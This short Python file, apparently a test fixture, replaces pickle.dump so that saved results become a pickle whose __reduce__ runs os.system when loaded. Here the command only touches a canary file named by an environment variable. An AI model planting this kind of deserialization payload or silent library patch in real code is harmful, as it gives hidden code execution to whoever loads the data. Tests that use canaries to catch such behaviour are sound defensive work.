"""Makes the results run a shell command when they are read."""

import os
import pickle


class Command:
    def __reduce__(self):
        return os.system, (f"touch {os.environ['CANARY']}",)


write = pickle.dumps
pickle.dump = lambda _, file: file.write(write(Command()))
